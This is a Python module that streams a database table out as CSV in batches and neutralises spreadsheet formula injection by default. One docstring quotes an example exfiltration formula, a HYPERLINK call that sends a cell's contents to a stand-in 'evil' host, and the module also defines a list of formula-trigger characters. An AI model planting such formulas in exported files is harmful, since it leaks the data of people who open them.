"""Exporting a table as CSV, streamed: a batch of rows at a time, in the table's order.

One query reads the rows in order with each column's value beside them (a correlated lookup
per column, answered from the cell's unique index), through a server-side cursor on
PostgreSQL, so memory holds one batch whatever the table's size. The csv module writes each
batch in one call; only rows that need it get per-value work:

* By default a value a spreadsheet would run as a formula gets a leading ``'``
  (``neutralise_formula``: OWASP's CSV injection advice); ``raw`` keeps every value as stored,
  so the file imports back unchanged.
* A row holding a lone ``\\r`` is written with every value quoted: the csv module leaves it
  unquoted, and a reader then takes it for a line break. So is a header whose names hold a
  ``;`` or a tab, which could make the import split the header on it.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from itertools import chain, compress, repeat
from typing import Any, TextIO, cast

import sqlalchemy as sa
from sqlalchemy.orm import aliased
from sqlmodel import Session, col, select

from enrichment_app.db.models import Cell, DataTable, TableColumn, TableRow
from enrichment_app.errors import NotFoundError
from enrichment_app.services.transfer import Progress

BATCH_ROWS = 2000
MAX_JOINED_COLUMNS = 48
"""The widest table whose export joins each column's cells (SQLite joins at most 64 tables)."""
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""What makes a spreadsheet read a cell as a formula (OWASP's CSV injection page)."""


def neutralise_formula(value: str) -> str:
    """``value`` with a leading ``'`` if a spreadsheet would run it as a formula, so that
    ``=HYPERLINK("https://evil/?"&A2)`` from a page title shows as text when the file is opened."""
    return "'" + value if value.startswith(FORMULA_TRIGGERS) else value


def export_filename(name: str, *, raw: bool) -> str:
    """The download's file name: the table's name made safe for every OS, and `` (raw)`` for an
    export whose formulas were kept, so the file says which one it is."""
    safe = "".join(ch if ch.isalnum() or ch in "-_ " else "_" for ch in name[:200])
    return f"{safe.strip() or 'table'}{' (raw)' if raw else ''}.csv"


def row_count(session: Session, *, table_id: int) -> int:
    """How many rows an export of the table writes (``NotFoundError`` if there is no table)."""
    if session.get(DataTable, table_id) is None:
        raise NotFoundError(f"Table {table_id} does not exist.")
    return int(
        session.exec(
            select(sa.func.count()).select_from(TableRow).where(TableRow.table_id == table_id)
        ).one()
    )


def iter_csv(
    session: Session, *, table_id: int, raw: bool = False, progress: Progress | None = None
) -> Iterator[str]:
    """The table as CSV text, a header row and then a batch of rows per piece.

    ``progress`` counts the rows written and stops the export when canceled.
    """
    if session.get(DataTable, table_id) is None:
        raise NotFoundError(f"Table {table_id} does not exist.")
    columns = list(
        session.exec(
            select(TableColumn)
            .where(TableColumn.table_id == table_id)
            .order_by(col(TableColumn.position))
        ).all()
    )
    out = io.StringIO()
    minimal = csv.writer(out, lineterminator="\n")
    quote_all = csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_ALL)
    header = [c.name if raw else neutralise_formula(c.name) for c in columns]
    (quote_all if any(ch in n for n in header for ch in ";\t\r") else minimal).writerow(header)
    yield _take(out)
    if not columns:
        return
    query = _rows_query(table_id, [c.id or 0 for c in columns])
    with _batches(session, query) as batches:
        for batch in batches:
            if progress is not None:
                progress.check()
            rows = cast(Sequence[Sequence[str]], batch)
            if not raw:
                rows = _neutralised(rows, len(columns))
            minimal.writerows(rows)
            text = _take(out)
            if "\r" in text:  # only a value holds one (lines end with "\n"): redo the batch
                for row in rows:
                    (quote_all if any("\r" in v for v in row) else minimal).writerow(row)
                text = _take(out)
            if progress is not None:
                progress.rows += len(rows)
            yield text


def write_csv(
    session: Session,
    *,
    table_id: int,
    out: TextIO,
    raw: bool = False,
    progress: Progress | None = None,
) -> int:
    """Write the table as CSV to ``out``; the number of characters written."""
    written = 0
    for piece in iter_csv(session, table_id=table_id, raw=raw, progress=progress):
        out.write(piece)
        written += len(piece)
        if progress is not None:
            progress.bytes = written
    return written


def export_csv(session: Session, *, table_id: int, raw: bool = False) -> str:
    """The table as CSV text: a header row, then every row's values (enriched ones included).

    By default values that a spreadsheet would run as formulas get a leading ``'``
    (``neutralise_formula``); ``raw=True`` exports every value as stored, so the file imports
    back unchanged.
    """
    return "".join(iter_csv(session, table_id=table_id, raw=raw))


def _rows_query(table_id: int, column_ids: Sequence[int]) -> sa.Select[tuple[str, ...]]:
    """Every row of the table in order, as its values in ``column_ids`` order ("" for none).

    Each column's cell is a ``LEFT JOIN`` on the cell's unique ``(row_id, column_id)`` index: a
    third less work for SQLite than a correlated lookup per value (0.34 s against 0.50 s for
    100,000 rows x 8). SQLite joins at most 64 tables, so a wider table looks its values up
    one by one.
    """
    rows = sa.select().where(col(TableRow.table_id) == table_id)
    if len(column_ids) <= MAX_JOINED_COLUMNS:
        values = []
        for column_id in column_ids:
            cell = aliased(Cell)
            rows = rows.outerjoin(
                cell,
                sa.and_(col(cell.row_id) == col(TableRow.id), col(cell.column_id) == column_id),
            )
            values.append(sa.func.coalesce(col(cell.value), ""))
    else:
        values = [
            sa.func.coalesce(
                sa.select(col(Cell.value))
                .where(col(Cell.row_id) == col(TableRow.id), col(Cell.column_id) == column_id)
                .scalar_subquery(),
                "",
            )
            for column_id in column_ids
        ]
    return (
        rows.add_columns(*values)
        .select_from(TableRow)
        .order_by(col(TableRow.position), col(TableRow.id))
    )


@contextmanager
def _batches(session: Session, query: sa.Select[tuple[str, ...]]) -> Iterator[Iterator[Any]]:
    """The query's rows, ``BATCH_ROWS`` at a time, closed however the export ends.

    PostgreSQL: a server-side cursor through SQLAlchemy. SQLite: the driver's own cursor, whose
    plain tuples the csv module takes as they are (a quarter of an export's CPU was SQLAlchemy
    making rows); the query holds only integer ids and ``''``, rendered inline."""
    connection = session.connection()
    if connection.dialect.name != "sqlite":
        result = connection.execution_options(stream_results=True, yield_per=BATCH_ROWS).execute(
            query
        )
        with result:
            yield result.partitions()
        return
    sql = str(query.compile(dialect=connection.dialect, compile_kwargs={"literal_binds": True}))
    cursor = connection.connection.driver_connection.cursor()  # type: ignore[union-attr]
    try:
        cursor.execute(sql)
        yield iter(lambda: cursor.fetchmany(BATCH_ROWS), [])
    finally:
        cursor.close()


def _neutralised(rows: Sequence[Sequence[str]], width: int) -> Sequence[Sequence[str]]:
    """The rows (of ``width`` values each), with ``neutralise_formula`` applied where a value
    needs it. The test per value runs in C; Python touches only the values it changes."""
    values = list(chain.from_iterable(rows))
    starts = list(map(str.startswith, values, repeat(FORMULA_TRIGGERS)))
    if not any(starts):
        return rows
    for i in compress(range(len(values)), starts):
        values[i] = "'" + values[i]
    return list(zip(*[iter(values)] * width, strict=True))  # back into rows, in C


def _take(out: io.StringIO) -> str:
    text = out.getvalue()
    out.seek(0)
    out.truncate()
    return text
